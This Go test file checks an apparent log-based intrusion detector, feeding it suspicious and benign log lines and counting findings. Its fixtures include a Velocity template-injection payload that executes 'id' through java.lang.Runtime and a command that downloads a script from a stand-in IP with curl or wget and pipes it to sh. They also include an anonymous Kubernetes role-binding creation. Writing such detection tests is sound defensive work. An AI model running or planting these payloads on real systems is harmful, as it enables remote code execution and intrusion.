package orders_test

import (
	"testing"

	"telltale/detect/detecttest"
	"telltale/detect/orders"
	"telltale/event"
)

func TestOrders(t *testing.T) {
	for _, tc := range []struct {
		name, message string
		count         int
	}{
		{"the answer of id", "digest: 'NEXT_REDIRECT;push;/login?a=uid=0(root) gid=0(root) groups=0(root);307;'", 1},
		{"code in a template", "params={v.template.custom=#set($rt=$x.class.forName('java.lang.Runtime'))+#set($ex=$rt.getRuntime().exec('id'))}", 1},
		{"an order to salt", "Executing command '(curl -s 198.51.100.7/sa.sh||wget -q -O- 198.51.100.7/sa.sh)|sh' in directory '/root'", 1},
		{"a maker's installer", "Executing command 'curl -fsSL https://get.docker.com | sh' in directory '/root'", 0},
		{"numbers of accounts", "started as uid=33 gid=33", 0},
		{"a stack trace", "at java.lang.Runtime.exec(Runtime.java:620)", 0},
		{"a job of somebody", "USER=alice IP=203.0.113.5 OPERATION=Submit Application Request TARGET=ClientRMService RESULT=SUCCESS", 0},
		{"somebody reads a page", "GET /docs/curl-and-wget | sharing", 0},
	} {
		got := detecttest.Run(t, orders.New(), detecttest.Scene(), "02:00:00 program-said service.name=x message="+quote(tc.message)+"\n")
		if len(got) != tc.count {
			t.Errorf("%s: %+v", tc.name, got)
		}
	}
}

func quote(s string) string {
	out := `"`
	for _, c := range s {
		if c == '"' || c == '\\' {
			out += `\`
		}
		out += string(c)
	}
	return out + `"`
}

func TestCluster(t *testing.T) {
	for _, tc := range []struct {
		name, message string
		count         int
	}{
		{"a binding by nobody", `{"verb":"create","user":{"username":"system:anonymous"},"objectRef":{"resource":"clusterrolebindings"},"responseStatus":{"code":201}}`, 1},
		{"a health check by nobody", `{"verb":"get","requestURI":"/healthz","user":{"username":"system:anonymous"},"responseStatus":{"code":200}}`, 0},
		{"nobody is refused", `{"verb":"create","user":{"username":"system:anonymous"},"objectRef":{"resource":"pods"},"responseStatus":{"code":403}}`, 0},
	} {
		f := orders.New().New(detecttest.Scene())
		e := event.Event{Kind: event.ProgramSaid}
		e.AddText(event.Message, tc.message)
		f.Observe(&e)
		n := 0
		for range f.Findings(t.Context()) {
			n++
		}
		if n != tc.count {
			t.Errorf("%s: %d findings", tc.name, n)
		}
	}
}
